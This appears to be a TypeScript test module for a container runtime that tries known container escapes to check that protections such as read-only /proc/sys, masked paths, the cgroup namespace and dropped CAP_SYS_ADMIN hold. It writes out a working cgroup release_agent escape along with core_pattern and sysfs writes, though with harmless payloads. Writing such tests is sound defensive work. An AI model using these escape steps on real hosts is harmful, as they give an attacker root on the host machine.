/**
 * What if … the container writes where the kernel is told what to do: to /proc/sys, to /sys, to a
 * cgroup's release agent? What is written is what was there.
 */
import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Spec } from '../../lib/oci/spec.ts';
import { type Attack, type Change, type Guard, lastLine, simple, why } from './attack.ts';
import { give } from './capabilities.ts';
import { withHierarchy } from './hierarchy.ts';
import type { Ran, Scene } from './scene.ts';

const rewrite = (path: string) =>
  `v=$(cat ${path}) && printf '%s' "$v" > ${path} && echo written: ${path}`;

const written = (ran: Ran) =>
  ran.stdout.includes('written:')
    ? { succeeded: true, seen: lastLine(ran.stdout) }
    : { succeeded: false, seen: why(ran) };

const CORE_PATTERN = '/proc/sys/kernel/core_pattern';

const corePattern = simple({
  title: 'core_pattern: name the program that the kernel runs for a crash',
  protection: 'read-only /proc/sys',
  without: {
    change: ({ linux }) => {
      linux.readonlyPaths = linux.readonlyPaths?.filter((path) => path !== '/proc/sys') ?? [];
    },
  },
  script: () => rewrite(CORE_PATTERN),
  judge: written,
});

const remount = simple({
  title: 'the same after mounting /proc/sys writable again',
  protection: 'no CAP_SYS_ADMIN',
  without: { change: give('CAP_SYS_ADMIN') },
  script: () => `mount -o remount,bind,rw /proc/sys; ${rewrite(CORE_PATTERN)}`,
  judge: written,
});

/** A setting of all kernels, by a small number. */
const SETTINGS = ['/sys/kernel/rcu_expedited', '/sys/kernel/mm/ksm/sleep_millisecs'];

const sysfs = simple({
  title: 'write a setting of the kernel in /sys',
  protection: 'read-only /sys',
  without: {
    change: ({ mounts }) => {
      const sys = mounts.find(({ destination }) => destination === '/sys');
      if (sys) sys.options = (sys.options ?? []).filter((option) => option !== 'ro');
    },
  },
  script: () => rewrite(SETTINGS.find((path) => existsSync(path)) ?? ''),
  judge: written,
});

const masked = simple({
  title: 'read what the kernel tells of others’ keys, in /proc/keys',
  protection: 'masked paths',
  without: {
    change: ({ linux }) => {
      linux.maskedPaths = [];
    },
  },
  script: () => 'k=$(cat /proc/keys) && [ -n "$k" ] && echo written: there are keys',
  judge: written,
});

const LEAVE = (name: string, agent: string) =>
  [
    `mount -t cgroup -o none,name=${name} cgroup /mnt && mkdir /mnt/left`,
    'echo 1 > /mnt/left/notify_on_release',
    `echo '${agent}' > /mnt/release_agent`,
    `sh -c 'echo 0 > /mnt/left/cgroup.procs'`,
  ].join(' && ');

/** What the agent has written by now, run by the kernel as root of the host. */
async function writtenBy(path: string): Promise<string | null> {
  for (let left = 40; left > 0 && !existsSync(path); left--) await sleep(50);
  return existsSync(path) ? readFileSync(path, 'utf8').trim() : null;
}

async function releaseAgent(scene: Scene, change: Change) {
  const mark = join(scene.outside, 'escaped');
  const agent = join(scene.rootfs, 'agent');
  writeFileSync(agent, `#!/bin/sh\nid -u > ${mark}.new && mv ${mark}.new ${mark}\n`);
  chmodSync(agent, 0o755);
  return await withHierarchy(scene, async (name) => {
    const ran = await scene.run({ script: LEAVE(name, agent), change });
    const uid = ran.status === 0 ? await writtenBy(mark) : null;
    return uid === null
      ? { succeeded: false, seen: why(ran) }
      : { succeeded: true, seen: `the agent was run with uid ${uid}` };
  });
}

const withoutNamespace = ({ linux }: Required<Spec>) => {
  linux.namespaces = linux.namespaces?.filter(({ type }) => type !== 'cgroup') ?? [];
};

const agentBy = (protection: string, what: string, given: Change, takeAway: Change): Attack => ({
  title: `release_agent: have the kernel run a program when a cgroup is empty (${protection})`,
  protection,
  given: what,
  needs: ['cgroup-v1'],
  attempt: (scene, guard: Guard) =>
    releaseAgent(scene, (spec, at) => {
      if (guard !== 'default') given(spec, at);
      if (guard === 'off') takeAway(spec, at);
    }),
});

export const attacks: readonly Attack[] = [
  agentBy(
    'no CAP_SYS_ADMIN',
    'the host’s cgroup namespace, CAP_DAC_OVERRIDE',
    (spec, at) => {
      give('CAP_DAC_OVERRIDE')(spec, at);
      withoutNamespace(spec);
    },
    give('CAP_SYS_ADMIN'),
  ),
  agentBy(
    'cgroup namespace',
    'CAP_SYS_ADMIN, CAP_DAC_OVERRIDE',
    give('CAP_SYS_ADMIN', 'CAP_DAC_OVERRIDE'),
    withoutNamespace,
  ),
  corePattern,
  remount,
  sysfs,
  masked,
];
